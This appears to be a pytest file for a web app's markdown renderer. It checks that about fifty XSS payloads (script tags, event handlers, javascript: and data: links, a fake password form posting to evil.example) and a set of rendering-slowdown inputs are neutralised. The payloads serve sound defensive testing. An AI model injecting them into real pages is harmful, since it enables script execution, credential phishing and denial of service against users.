"""Markdown that means harm: nothing of it acts, and nothing of it is slow."""

import re
import time
from contextlib import suppress
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from campus.markdown import Reference, Target, TooMuch, limits, render
from campus.markdown.allowing import ALLOWED_ATTRIBUTES, ALLOWED_TAGS
from campus.markdown.links import PREFIX

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`javascript:alert(1)`>",
    '<img src="x" onerror="alert(1)"',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    '<p style="position:fixed;inset:0">x</p>',
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x]( javascript:alert(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "<javascript:alert(1)>",
    '[x](https://example.org "onmouseover=alert(1) x=\\"")',
    '[x](https://example.org"onmouseover="alert(1))',
    '![x" onerror="alert(1)](a.png)',
    '<a href="https://example.org" onclick="alert(1)">x</a>',
    '<a href="javascript:alert(1)">x</a>',
    '<a name="x" id="csrf" class="modal-open">x</a>',
    '<Button link="javascript:alert(1)" text="x"/>',
    '<Button link="x&quot; onclick=&quot;alert(1)" text="<img src=x onerror=alert(1)>"/>',
    "::: tip <img src=x onerror=alert(1)>\nx\n:::",
    '::: tip "\n<script>alert(1)</script>\n:::',
    '```"><script>alert(1)</script>\nx\n```',
    '``` x" onload="alert(1)\nx\n```',
    "# <img src=x onerror=alert(1)>\n\n[[toc]]\n\n## <script>alert(1)</script>",
    "x {: onclick=alert(1) #csrf .modal style=position:fixed }",
    "[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: x",
    '*[x]: " onmouseover="alert(1)\n\nx',
    "\x02wzxhzdk:0\x03 \x02amp\x03",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src=x onerror=alert(1)><source src=javascript:alert(1)></video>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<a href="/\\evil.example">x</a> [y](//evil.example/x)',
    "<div role=alert aria-live=assertive tabindex=1>x</div>",
]

FRAMES = ["{}", "- x\n\n  {}", "::: tip\n{}\n:::", "> {}", "| a |\n|---|\n| {} |"]

ALL_ATTRIBUTES = {
    tag: ALLOWED_ATTRIBUTES["*"] | ALLOWED_ATTRIBUTES.get(tag, set()) for tag in ALLOWED_TAGS
}


class Inspector(HTMLParser):
    """Lists everything in a page that could act or reach outside of the lesson."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.wrong.append(tag)
        for name, value in attrs:
            text = (value or "").strip()
            if name not in ALL_ATTRIBUTES.get(tag, set()):
                self.wrong.append(f"{tag} {name}")
            if name == "id" and not text.startswith(PREFIX):
                self.wrong.append(f"id {text}")
            if name in {"href", "src"} and not re.match(r"(https?:|mailto:|tel:|/|#)", text):
                self.wrong.append(f"{name} {text}")


def wrong_in(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.wrong


def anywhere(reference: Reference) -> Target | None:
    return Target("/lessons/1", lesson="1")


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("frame", FRAMES)
def test_an_attack_does_nothing_wherever_it_stands(attack: str, frame: str) -> None:
    html = render(frame.format(attack), language="fr", resolve=anywhere).html
    assert wrong_in(html) == []


def test_the_inspector_sees_what_an_unsafe_renderer_would_show() -> None:
    import markdown

    unsafe = [attack for attack in ATTACKS if wrong_in(markdown.markdown(attack))]
    assert len(unsafe) > len(ATTACKS) / 2


def test_a_relative_address_with_a_host_is_another_site() -> None:
    html = render("[y](//evil.example/x)", language="fr", resolve=anywhere).html
    assert 'rel="noopener noreferrer"' in html


@given(st.text(alphabet=st.sampled_from("<>/\"'=: \n-*_`[](){}#|!&;:aimgsrc\x02\x03"), max_size=80))
@settings(max_examples=150, deadline=None)
def test_no_text_at_all_acts(source: str) -> None:
    assert wrong_in(render(source, language="fr", resolve=anywhere).html) == []


SLOW = {
    "footnotes": "x[^1] " * 3_000 + "\n\n[^1]: y",
    "brackets": "[" * 19_000,
    "images": "![" * 9_000,
    "emphasis": "*a _b " * 3_000,
    "backquotes": "`a" * 9_000,
    "tags": "<a " * 6_000,
    "unclosed tags": '<a x="' * 3_000,
    "components": "<Button " * 2_400,
    "quotations": ">" * 19_000,
    "nested lists": "".join(" " * (2 * depth) + "- a\n" for depth in range(190)),
    "nested blocks": "::: tip\n" * 2_000,
    "contents": "[[toc]]\n\n# a\n\n" * 1_000,
    "headings": "# a\n" * 4_000,
    "underlined": "a\n-\n" * 4_000,
    "cells": "|" * 1_000 + "\n" + "|-" * 1_000 + "|\n" + "|a" * 1_000,
    "rows": "|a|b|\n|-|-|\n" + "|c|d|\n" * 3_000,
    "abbreviations": "".join(f"*[a{n}]: x\n" for n in range(290)) + "\n" + "a1 a2 " * 2_000,
    "details": "<details>\n" * 1_900,
    "comments": "a <!-- " * 2_500,
    "entities": "&#x41;" * 3_000,
    "blanks": "a" + " " * 19_000,
    "definitions": "a\n: b\n\n" * 2_500,
    "references": "".join(f"[a{n}]: /x\n" for n in range(1_900)),
    "attributes": "a {: " * 3_500,
}


@pytest.mark.parametrize("name", SLOW)
def test_a_short_text_made_to_be_slow_is_refused_or_quick(name: str) -> None:
    """Texts this short are rendered without a clock, so the caps alone must hold them."""
    source = SLOW[name][: limits.UNTIMED_CHARACTERS]
    begun = time.process_time()
    with suppress(TooMuch):
        render(source, language="fr")
    assert time.process_time() - begun < 3
